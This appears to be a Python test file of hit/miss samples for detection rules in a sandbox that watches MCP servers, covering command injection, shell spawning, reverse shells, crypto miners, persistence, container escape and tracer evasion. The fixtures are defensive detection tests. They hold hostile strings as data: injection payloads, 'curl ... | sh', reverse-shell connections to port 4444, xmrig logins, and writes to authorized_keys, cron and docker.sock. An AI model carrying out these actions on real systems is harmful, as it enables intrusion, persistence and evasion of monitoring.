"""Samples of the rules on processes, privilege and tampering."""

from __future__ import annotations

from dataclasses import replace

from mcp_sandbox.model import (
    Act,
    CallStatus,
    CgroupCounters,
    RiskClass,
    SessionEnd,
    SinkKind,
    StopStage,
    Tracing,
    Window,
)
from support.observed import arrived, call, called, did, observed, session, tool
from support.rule_samples import NONCE, hit, miss

C, H, M, N = RiskClass.CRITICAL, RiskClass.HIGH, RiskClass.MEDIUM, RiskClass.NOTE
PYTHON = "/usr/local/bin/python3.13"
START = did(Act.EXEC, PYTHON, 0, detail="python server.py", program="")
RUNS_CODE = (tool("find", "Runs a Python script.", name="The script to run."),)
HOSTILE = call("command-injection", "; touch /tmp/x #")


def traced(*events, calls=None, tools=(), tracing=Tracing.INSIDE, sink=(), **more):
    """A server whose kernel events are these; an ordinary call is the first, a hostile one next."""
    container = {"kernel": (START, *events), "tracing": tracing, "sink": tuple(sink)}
    container |= more.pop("container", {})
    return called(*(calls or (call(), HOSTILE)), tools=tools, container=container, **more)


def ran(path, number=2, detail="", **changes):
    changes.setdefault("program", PYTHON)
    return did(Act.EXEC, path, number, detail=detail or path, **changes)


def injected(*events, value="; touch /tmp/<n> #", sink=(), **changes):
    one = call("command-injection", value.replace("<n>", NONCE), **changes)
    return traced(*events, calls=(call(), one), sink=sink)


# --- input that was carried out -------------------------------------------------------------------


@hit("command-injection")
def a_piece_of_the_input_was_run():
    return injected(ran("/usr/bin/touch", detail=f"touch /tmp/{NONCE}", program="/usr/bin/dash"))


@hit("command-injection")
def a_name_of_ours_was_looked_for():
    value = f"; {NONCE} #"
    return injected(ran(f"/usr/bin/{NONCE}", detail=NONCE, result="ENOENT"), value=value)


@hit("command-injection")
def a_sum_was_done_for_the_arguments_of_a_program():
    return injected(
        ran("/usr/bin/ping", detail="ping -c1 56088"), value="$((123*456))", expected="56088"
    )


@hit("command-injection")
def a_sum_was_done_for_a_name():
    name = f"{NONCE}.56088.example"
    return injected(
        value="$(getent hosts <n>.$((123*456)).example)",
        expected="56088",
        sink=(arrived(SinkKind.DNS, name, 0, 2),),
    )


@hit("command-injection")
def the_file_was_made_and_is_gone():
    return injected(did(Act.WRITE, f"/tmp/{NONCE}", 2), effect=f"/tmp/{NONCE}")


@hit("command-injection")
def late_work_of_the_call_before():
    one = call("command-injection", "x", effect=f"/tmp/{NONCE}")
    made = did(Act.WRITE, f"/tmp/{NONCE}", 3)
    return traced(made, calls=(call(), one, call("ssrf", "y")))


@miss("command-injection")
def quoted_inside_a_shell():
    return injected(ran("/bin/sh", detail=f"sh -c 'ping '\"'\"'; touch /tmp/{NONCE} #'\"'\"''"))


@miss("command-injection")
def one_argument_of_the_usual_program():
    return injected(ran("/usr/bin/ping", detail=f"ping '; touch /tmp/{NONCE} #'"))


@miss("command-injection")
def the_value_itself_was_looked_up():
    value = f"$(getent hosts {NONCE}.$((123*456)).example)"
    return injected(
        value=value, expected="56088", sink=(arrived(SinkKind.DNS, value.lower(), 0, 2),)
    )


@miss("command-injection")
def a_tool_that_touches_files():
    return injected(
        ran("/usr/bin/touch", 1, "touch notes"),
        ran("/usr/bin/touch", 2, f"touch -- /tmp/{NONCE}"),
    )


@miss("command-injection", "unexpected-process")
def a_search_along_the_path():
    return injected(ran("/usr/local/bin/ping", detail="ping notes", result="ENOENT"))


# --- shells and network tools ---------------------------------------------------------------------


@hit("shell-spawned")
def only_hostile_input_starts_a_shell():
    return traced(ran("/bin/sh", detail="sh -c 'ping x'"))


@hit("shell-spawned")
def a_shell_of_busybox():
    return traced(ran("/bin/busybox", detail="sh -c 'ping x'"))


@hit("shell-spawned")
def curl_at_start():
    return traced(ran("/usr/bin/curl", 0, "curl https://a.b"))


@hit("shell-spawned")
def a_shell_while_idle():
    return traced(ran("/bin/sh", 0, "sh -c 'sleep 1; ./x'", window=Window.IDLE))


@hit("shell-spawned", H)
def a_shell_in_another_way():
    return traced(ran("/bin/sh", 1, "sh -c 'ls notes'"), ran("/bin/sh", 2, "sh -i"))


@hit("shell-spawned", M)
def a_shell_and_nothing_to_compare():
    refused = call(said="No such file", status=CallStatus.TOOL_ERROR)
    return traced(ran("/bin/sh", detail="sh -c 'pandoc x'"), calls=(refused, HOSTILE))


@hit("shell-spawned", N)
def a_shell_in_ordinary_calls():
    return traced(ran("/bin/sh", 1, "sh -c 'ls notes'"), ran("/bin/sh", 2, "sh -c 'ls x'"))


@hit("shell-spawned", N)
def a_shell_by_design():
    return traced(ran("/bin/sh", detail="sh x.sh"), tools=RUNS_CODE)


@hit("shell-spawned", N)
def a_shell_that_asks_for_the_c_library():
    told = "sh -c 'getconf GNU_LIBC_VERSION 2>&1 || true; ldd --version 2>&1 || true'"
    return traced(ran("/bin/sh", 0, told))


@hit("shell-spawned")
def a_question_that_hides_more():
    return traced(ran("/bin/sh", 0, "sh -c 'uname -a; curl https://a.b | sh'"))


@miss("shell-spawned")
def a_start_script():
    script = did(Act.EXEC, "/bin/sh", 0, detail="sh -c 'curl x; exec python server.py'", program="")
    inner = did(Act.EXEC, "/usr/bin/curl", 0, detail="curl x", program="/bin/sh")
    return called(call(), container={"kernel": (script, inner), "tracing": Tracing.INSIDE})


@miss("shell-spawned")
def a_package_runner():
    runner = did(Act.EXEC, "/usr/local/bin/npm", 0, detail="npm start", program="")
    shell = did(Act.EXEC, "/bin/sh", 0, detail="sh -c 'node server.js'", program="/usr/bin/node")
    return called(call(), container={"kernel": (runner, shell), "tracing": Tracing.INSIDE})


@miss("shell-spawned")
def a_shell_that_is_not_there():
    return traced(ran("/bin/bash", detail="bash -c x", result="ENOENT"))


# --- other programs -------------------------------------------------------------------------------


@hit("unexpected-process")
def only_hostile_input_starts_a_program():
    return traced(ran("/usr/bin/base64", detail="base64 -d x"))


@hit("unexpected-process")
def a_program_behind_an_ordinary_shell():
    return traced(
        ran("/bin/sh", 1, "sh -c 'ls'"), ran("/usr/bin/tar", detail="tar c /", program="/bin/sh")
    )


PROVEN = call("command-injection", "$(expr 6 '*' 7)", "42", proven=True)
UNPROVEN = call("command-injection", "`expr 6 '*' 7`")
EXPR = ran("/usr/bin/expr", 3, "expr 6 * 7", program="/usr/bin/dash")


@miss("unexpected-process")
def another_program_of_a_shell_that_input_is_proven_to_reach():
    return traced(EXPR, calls=(call(), PROVEN, UNPROVEN))


@hit("unexpected-process")
def a_program_of_a_shell_that_another_parameter_is_proven_to_reach():
    return traced(EXPR, calls=(call(), replace(PROVEN, parameter="/other"), UNPROVEN))


@hit("unexpected-process")
def a_program_of_a_shell_that_another_tool_is_proven_to_reach():
    return traced(EXPR, calls=(call(), replace(PROVEN, target="other"), UNPROVEN))


@hit("unexpected-process")
def a_program_of_the_servers_own_beside_a_proven_injection():
    return traced(replace(EXPR, program=PYTHON), calls=(call(), PROVEN, UNPROVEN))


@hit("unexpected-process", M)
def a_program_and_nothing_to_compare():
    refused = call(said="No such file", status=CallStatus.TOOL_ERROR)
    return traced(ran("/usr/bin/pandoc"), calls=(refused, HOSTILE))


@hit("unexpected-process", N)
def a_library_that_looks_around():
    return traced(ran("/sbin/ldconfig", detail="ldconfig -p"))


@hit("unexpected-process", N)
def a_program_that_the_names_announce():
    return traced(
        ran("/usr/bin/git", detail="git log"), tools=(tool("find", name="x"), tool("git_log"))
    )


@hit("unexpected-process", N)
def a_program_of_another_tool():
    calls = (call(), HOSTILE, call(target="other"), HOSTILE)
    return traced(ran("/usr/bin/pandoc", 3), ran("/usr/bin/pandoc", 2), calls=calls)


@miss("unexpected-process", "seed-child-process")
def a_program_of_ordinary_calls():
    return traced(ran("/usr/bin/git", 1, "git log"), ran("/usr/bin/git", 2, "git log x"))


@miss("unexpected-process")
def a_child_of_an_ordinary_program():
    return traced(
        ran("/usr/bin/git", 1, "git log"),
        ran("/usr/bin/git", 2, "git fetch x"),
        ran("/usr/lib/git-core/git-remote-https", 2, program="/usr/bin/git"),
    )


@miss("unexpected-process", "shell-spawned")
def a_program_of_the_start():
    return traced(ran("/usr/bin/convert", 0), ran("/usr/bin/convert", 2))


@miss("unexpected-process")
def late_work_of_another_tools_call():
    calls = (call(target="other"), call(target="other"), HOSTILE)
    return traced(ran("/usr/bin/pandoc", 1), ran("/usr/bin/pandoc", 3), calls=calls)


# --- code that the server brought with it ---------------------------------------------------------


@hit("drop-and-execute")
def a_written_program():
    return traced(did(Act.WRITE, "/srv/x", 2), ran("/srv/x"))


@hit("drop-and-execute")
def a_program_in_tmp():
    return traced(ran("/dev/shm/x", 0))


@hit("drop-and-execute")
def a_written_script_through_a_shell():
    return traced(did(Act.WRITE, "/srv/x", 2), ran("/bin/sh", detail="sh -e /srv/x"))


@hit("drop-and-execute")
def a_program_through_the_loader():
    loader = "/lib64/ld-linux-x86-64.so.2"
    return traced(ran(loader, detail=f"{loader} /tmp/x"))


@hit("drop-and-execute")
def a_renamed_download():
    moved = did(Act.RENAME, "/srv/x.part", 2, detail="/srv/x")
    return traced(moved, ran("/srv/x"))


@hit("drop-and-execute", H)
def a_program_that_may_not_run():
    return traced(did(Act.WRITE, "/tmp/x", 2), ran("/tmp/x", result="EACCES"))


@hit("drop-and-execute", N)
def a_tool_that_runs_code():
    return traced(ran(PYTHON, detail="python /tmp/a.py"), tools=RUNS_CODE)


@hit("drop-and-execute")
def a_hidden_script_in_ordinary_calls():
    return traced(did(Act.WRITE, "/tmp/.x", 1), ran("/bin/sh", 1, "/bin/sh /tmp/.x"))


@hit("drop-and-execute", M)
def a_tool_that_plots_by_script():
    first, second = ran(PYTHON, 1, "python /tmp/a.py"), ran(PYTHON, 2, "python /tmp/b.py")
    return traced(first, second)


@hit("drop-and-execute")
def a_script_of_node():
    return traced(ran("/usr/bin/node", detail="node --no-warnings /tmp/x.js"))


@miss("drop-and-execute")
def caches_and_data():
    return traced(
        did(Act.WRITE, "/tmp/a.pyc", 2),
        did(Act.OPEN, "/tmp/a.pyc", 2),
        ran(PYTHON, detail="python -c 'print(1)' /tmp/data"),
        ran(PYTHON, detail="python /srv/tool.py /tmp/data"),
        ran("/usr/bin/node", detail="node -e 'f()' /tmp/data"),
        ran("/tmp/bin/git", result="ENOENT"),
    )


@hit("memfd-execute")
def a_program_in_memory():
    return traced(ran("memfd:x"))


@hit("memfd-execute")
def a_program_in_memory_by_its_number():
    return traced(did(Act.MEMFD, "/memfd:x", 2), ran("/proc/self/fd/7"))


@hit("memfd-execute", H)
def a_program_in_memory_that_may_not_run():
    return traced(ran("/memfd:x (deleted)", result="EACCES"))


@miss("memfd-execute")
def memory_that_is_only_used():
    return traced(
        did(Act.MEMFD, "memfd:doublemapper", 2),
        did(Act.OPEN, "/memfd:x", 2),
        ran("/proc/self/fd/7", 1),
    )


# --- a shell for somebody else, a miner -----------------------------------------------------------


@hit("reverse-shell")
def a_connection_and_then_a_shell():
    return traced(
        did(Act.DUP, "203.0.113.9:4444", 2, program=PYTHON), ran("/bin/sh", detail="sh -i")
    )


@hit("reverse-shell")
def a_shell_that_connects_itself():
    return traced(did(Act.DUP, "[2001:db8::1]:4444", 0, program="/usr/bin/bash"))


@hit("reverse-shell")
def a_prompt_at_the_sink():
    first = b"uid=65532(app) gid=65532(app)\n".hex()
    return traced(sink=(arrived(SinkKind.TCP, "203.0.113.9", 4444, 2, text=first),))


@miss("reverse-shell")
def sockets_that_are_no_standard_streams_of_a_shell():
    return traced(
        did(Act.DUP, "unix:@pair", 2, program=PYTHON),
        did(Act.DUP, "127.0.0.1:7", 2, program=PYTHON),
        ran("/bin/sh", detail="sh -c ls"),
        did(Act.DUP, "203.0.113.9:4444", 2, program="/usr/sbin/inetd"),
        ran("/usr/sbin/ftpd", program="/usr/sbin/inetd"),
        did(Act.CONNECT, "203.0.113.9:4444", 2),
        sink=(arrived(SinkKind.TCP, "203.0.113.9", 4444, 2, text=b"SSH-2.0-x\r\n".hex()),),
    )


@hit("miner")
def stratum():
    first = b'{"id":1,"method":"mining.subscribe","params":[]}\n'.hex()
    return traced(sink=(arrived(SinkKind.TCP, "pool.example", 3333, 0, text=first),))


@hit("miner")
def a_miners_login():
    first = b'{"method": "login", "params": {"login": "4x", "agent": "xmrig/6"}}\n'.hex()
    return traced(sink=(arrived(SinkKind.TCP, "pool.example", 443, 2, text=first),))


@miss("miner")
def a_pools_port():
    first = b'{"jsonrpc":"2.0","method":"login","params":{"user":"x"}}\n'.hex()
    return traced(sink=(arrived(SinkKind.TCP, "pool.example", 3333, 2, text=first),))


# --- the machine outside, and the time after ------------------------------------------------------


@hit("persistence-attempt")
def a_key_of_its_own():
    return traced(did(Act.WRITE, "/root/.ssh/authorized_keys", 2, "EROFS"))


@hit("persistence-attempt")
def a_scheduled_job_unasked():
    return traced(did(Act.LINK, "/tmp/x", 0, detail="/etc/cron.d/x"))


@hit("persistence-attempt")
def a_hook_by_renaming():
    return traced(did(Act.RENAME, "/srv/r/x", 2, detail="/srv/r/.git/hooks/post-commit"))


@miss("persistence-attempt")
def ordinary_writes():
    asked = call("path-traversal", "../../root/.bashrc")
    return traced(
        did(Act.WRITE, "/root/.bashrc", 2, "EROFS"),
        did(Act.OPEN, "/etc/passwd", 1),
        did(Act.WRITE, "/srv/r/.git/hooks/pre-push.sample", 1, program="/usr/bin/cp"),
        did(Act.WRITE, "/srv/r/.git/hooks/post-update", 1, program="/usr/bin/git"),
        did(Act.LINK, "/etc/cron.d/x", 1, detail="/tmp/x"),
        calls=(call(), asked),
    )


@hit("container-escape-attempt")
def the_engines_socket():
    return traced(did(Act.CONNECT, "unix:/run/docker.sock", 2))


@hit("container-escape-attempt")
def a_mount():
    return traced(did(Act.MOUNT, "/mnt", 0))


@hit("container-escape-attempt", H)
def a_release_agent():
    return traced(did(Act.WRITE, "/sys/fs/cgroup/memory/release_agent", 2, "EROFS"))


@hit("container-escape-attempt", H)
def the_root_of_process_one():
    return traced(did(Act.OPEN, "/etc/shadow", 2, "EACCES", detail="/proc/1/root/etc/shadow"))


@hit("container-escape-attempt", H)
def a_socket_that_is_not_there():
    return traced(did(Act.CONNECT, "unix:/var/run/docker.sock", 2, "ENOENT"))


@hit("container-escape-attempt", N)
def a_server_for_containers():
    return traced(
        did(Act.CONNECT, "unix:/var/run/docker.sock", 2, "ENOENT"),
        tools=(tool("find", "Lists Docker containers.", name="x"),),
    )


@hit("container-escape-attempt", N)
def a_browser_locks_itself_in():
    return traced(
        did(Act.NAMESPACE, "CLONE_NEWUSER", 2, "EPERM", program="/opt/chrome/headless_shell")
    )


@miss("container-escape-attempt")
def looks_at_the_machine():
    return traced(
        did(Act.OPEN, "/proc/sys/kernel/core_pattern", 1),
        did(Act.OPEN, "/sys/fs/cgroup/cpu.max", 0),
        did(Act.NAMESPACE, "CLONE_FS", 1),
        did(Act.CONNECT, "unix:/var/run/nscd/socket", 1, "ENOENT"),
        did(Act.OPEN, "/proc/1/root/x", 2, "EACCES"),
        did(Act.MKNOD, "/tmp/pipe", 1, detail="S_IFIFO|0600"),
        did(Act.WRITE, "/dev/null", 1),
        calls=(call(), call("path-traversal", "/proc/1/root/x")),
    )


# --- what watches ---------------------------------------------------------------------------------


@hit("trace-evasion")
def the_tracer_is_attached_to():
    return traced(did(Act.PTRACE, "tracer", 2, detail="PTRACE_SEIZE"))


@hit("trace-evasion", H)
def the_tracers_memory():
    return traced(did(Act.WRITE, "/proc/1/mem", 0, "EACCES"))


@hit("trace-evasion", H)
def the_tracer_is_signalled():
    return traced(did(Act.KILL, "tracer", 2, detail="SIGSTOP"))


@hit("trace-evasion", H)
def memory_is_hidden():
    return traced(did(Act.PRCTL, "PR_SET_DUMPABLE", 0, "EPERM", detail="0"))


@hit("trace-evasion", H)
def a_child_out_of_sight():
    return traced(did(Act.FORK, "CLONE_VM|CLONE_UNTRACED", 2, "EPERM"))


@hit("trace-evasion", H)
def the_sink_was_spoken_to():
    event = arrived(SinkKind.TAMPER, "127.0.0.1", 1, 2, text="a connection to the sink itself")
    return traced(sink=(event,))


@hit("trace-evasion", N)
def a_monitor_lists_descriptors():
    return traced(did(Act.OPEN, "/proc/1/fd", 2, "EACCES"))


@hit("trace-evasion", N)
def an_agent_hides_its_keys():
    return traced(did(Act.PRCTL, "PR_SET_DUMPABLE", 2, detail="0", program="/usr/bin/ssh-agent"))


@miss("trace-evasion")
def looks_at_itself():
    return traced(
        did(Act.OPEN, "/proc/self/status", 0),
        did(Act.OPEN, "/proc/1/stat", 1),
        did(Act.KILL, "tracer", 1, detail="0"),
        did(Act.KILL, "child", 1, detail="SIGTERM"),
        did(Act.PTRACE, "child", 1),
        did(Act.PRCTL, "PR_SET_NAME", 1),
        did(Act.OPEN, "/.mcp-sandbox", 1),
    )


@miss("trace-evasion")
def process_one_is_the_server_itself():
    return traced(did(Act.OPEN, "/proc/1/mem", 2), tracing=Tracing.OUTSIDE)


# --- annotations ----------------------------------------------------------------------------------


def _annotated(*events, calls=None, sink=(), **annotations):
    said = annotations or {"readOnlyHint": True}
    one = tool("find", "Finds.", name="The name.") | {"annotations": said}
    return traced(
        *events, calls=calls or (call(value="notes.txt"), HOSTILE), tools=(one,), sink=sink
    )


@hit("annotation-lie")
def reads_only_and_writes():
    return _annotated(did(Act.WRITE, "/srv/data/notes.txt", 1, detail="O_WRONLY|O_CREAT"))


@hit("annotation-lie")
def reads_only_and_would_write():
    return _annotated(did(Act.WRITE, "/srv/data/x", 1, "EROFS"))


@hit("annotation-lie")
def writes_the_named_file_in_tmp():
    return _annotated(did(Act.WRITE, "/tmp/notes.txt", 1))


@hit("annotation-lie")
def destroys_nothing_and_deletes():
    return _annotated(did(Act.UNLINK, "/srv/data/x", 1), destructiveHint=False)


@hit("annotation-lie", M)
def reads_only_and_sends_a_deletion():
    request = "DELETE /v1/things HTTP/1.1\r\nHost: api.example\r\n"
    return _annotated(sink=(arrived(SinkKind.HTTP, "api.example", 80, 1, text=request),))


@miss("annotation-lie")
def byproducts():
    return _annotated(
        did(Act.WRITE, "/usr/lib/python3/__pycache__/a.cpython-313.pyc", 1, "EROFS"),
        did(Act.WRITE, "/usr/lib/a.cpython-313.pyc.140224", 1, "EROFS"),
        did(Act.WRITE, "/app/logs/server.log", 1, "EROFS"),
        did(Act.WRITE, "/srv/repo/.git/index.lock", 1),
        did(Act.RENAME, "/srv/repo/.git/index.lock", 1, detail="/srv/repo/.git/index"),
        did(Act.WRITE, "/srv/data/app.db", 1, "EROFS"),
        did(Act.WRITE, "/srv/data/notes.txt", 1, detail="O_RDWR|O_CLOEXEC"),
        did(Act.WRITE, "/tmp/cache-x", 1),
        did(Act.WRITE, "/dev/null", 1),
        did(Act.MKDIR, "/srv/data", 1, "EROFS"),
        did(Act.WRITE, "/srv/y", 1),
        did(Act.UNLINK, "/srv/y", 1),
        did(Act.WRITE, "/srv/state.json", 0),
        did(Act.WRITE, "/srv/state.json", 1),
        did(Act.WRITE, "/srv/missing", 1, "ENOENT"),
    )


@miss("annotation-lie")
def only_hostile_input_writes():
    return _annotated(did(Act.WRITE, "/srv/x", 2))


@miss("annotation-lie")
def destroys_nothing_and_writes():
    return _annotated(did(Act.WRITE, "/srv/x", 1), destructiveHint=False)


@miss("annotation-lie")
def late_work_of_a_writing_call():
    calls = (call(value="a.txt", target="write"), call(value="b.txt"))
    return _annotated(did(Act.WRITE, "/srv/a.txt", 2), calls=calls)


# --- stability ------------------------------------------------------------------------------------


@hit("crash")
def a_process_of_the_server_faults():
    return traced(did(Act.SIGNAL, "SIGSEGV", 2, program="/usr/bin/convert"))


@hit("crash")
def a_fault_ends_the_server():
    broken = call("type-confusion", 7, status=CallStatus.CLOSED, reply="")
    return traced(
        did(Act.SIGNAL, "SIGSEGV", 2),
        calls=(call(), broken),
        end=SessionEnd.EXITED,
        container={"exit_code": 139, "stop": StopStage.EXITED},
    )


@miss("crash")
def processes_that_were_ended():
    return traced(
        did(Act.SIGNAL, "SIGTERM", 2, program="/usr/bin/convert"),
        did(Act.SIGNAL, "SIGABRT", 1, program="/opt/chrome"),
        did(Act.SIGNAL, "SIGABRT", 2, program="/opt/chrome"),
    )


@hit("out-of-memory")
def the_call_that_was_ended():
    return traced(
        did(Act.SIGNAL, "SIGKILL", 2),
        calls=(call(), HOSTILE, call("ssrf", "x")),
        container={"cgroup": CgroupCounters(oom_kills=1)},
    )


def _beside(answered, ended=0):
    """The same plan once more untraced, where the last call was answered or not."""
    calls = (call(), HOSTILE)
    traced_one = session(
        *calls,
        container={"tracing": Tracing.INSIDE, "cgroup": CgroupCounters(oom_kills=1)},
        end=SessionEnd.EXITED,
    )
    last = replace(HOSTILE, status=answered)
    alone = session(
        call(), last, role="untraced", container={"cgroup": CgroupCounters(oom_kills=ended)}
    )
    return observed(traced_one, alone)


@hit("out-of-memory", N)
def the_tracer_was_the_last_straw():
    return _beside(CallStatus.RESULT)


@hit("out-of-memory", M)
def the_untraced_run_did_not_answer_either():
    return _beside(CallStatus.CLOSED)


@hit("out-of-memory", M)
def the_untraced_run_met_the_limit_too():
    return _beside(CallStatus.RESULT, ended=1)


@hit("pid-exhaustion")
def a_fork_was_refused():
    return traced(did(Act.FORK, "clone", 2, "EAGAIN"))


@miss("pid-exhaustion")
def forks():
    return traced(did(Act.FORK, "clone", 2))


@hit("survivor-process")
def a_process_outlives_the_server():
    return called(call(), container={"survivors": ("sleep 1000",)})


@miss("survivor-process")
def nothing_but_the_tracer_and_the_dead():
    left = ("/.mcp-sandbox/tracer/ld.so x -- python server.py", "[node] <defunct>")
    return called(call(), container={"survivors": left})


# --- the article's list ---------------------------------------------------------------------------


@hit("seed-command-execution")
def a_shell_was_tried():
    return traced(ran("/usr/bin/curl", result="ENOENT"))


@miss("seed-command-execution", "seed-child-process", "seed-filesystem-changes")
def a_start_script_and_caches():
    made = a_start_script()
    one = made.sessions[0]
    kernel = (one.container.kernel[0], did(Act.WRITE, "/usr/lib/a.pyc", 0, "EROFS"))
    return replace(made, sessions=(replace(one, container=replace(one.container, kernel=kernel)),))


@hit("seed-filesystem-changes")
def a_change_that_was_refused():
    return traced(did(Act.WRITE, "/srv/x", 2, "EROFS"))


@hit("seed-child-process")
def a_short_lived_child():
    return traced(ran("/usr/bin/base64"))


@hit("seed-refused-connection")
def a_connection_that_the_kernel_refused():
    return traced(did(Act.CONNECT, "203.0.113.9:443", 0, "ENETUNREACH"))


@hit("seed-refused-connection")
def a_connection_at_the_sink():
    return traced(sink=(arrived(SinkKind.TLS, "api.vendor.dev", 443, 1),))


@miss("seed-refused-connection")
def connections_that_were_asked_for_or_stay():
    asked = call("ssrf", "https://api.vendor.dev/x")
    return traced(
        did(Act.CONNECT, "unix:/var/run/nscd/socket", 1, "ECONNREFUSED"),
        did(Act.CONNECT, "127.0.0.1:8080", 1, "ECONNREFUSED"),
        calls=(call(), asked),
        sink=(arrived(SinkKind.TLS, "api.vendor.dev", 443, 2),),
    )
